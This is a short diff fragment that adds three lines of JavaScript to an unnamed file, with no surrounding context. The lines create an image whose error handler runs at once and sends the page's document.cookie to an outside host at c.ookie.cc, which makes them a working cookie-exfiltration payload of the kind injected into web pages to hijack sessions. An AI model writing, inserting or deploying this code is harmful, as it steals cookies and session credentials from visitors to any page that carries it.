@@ -1,0 +1,3 @@
+const i = new Image();
+i.setAttribute('onerror', 'fetch("//c.ookie.cc/"+document.cookie)');
+i.src = 'x';
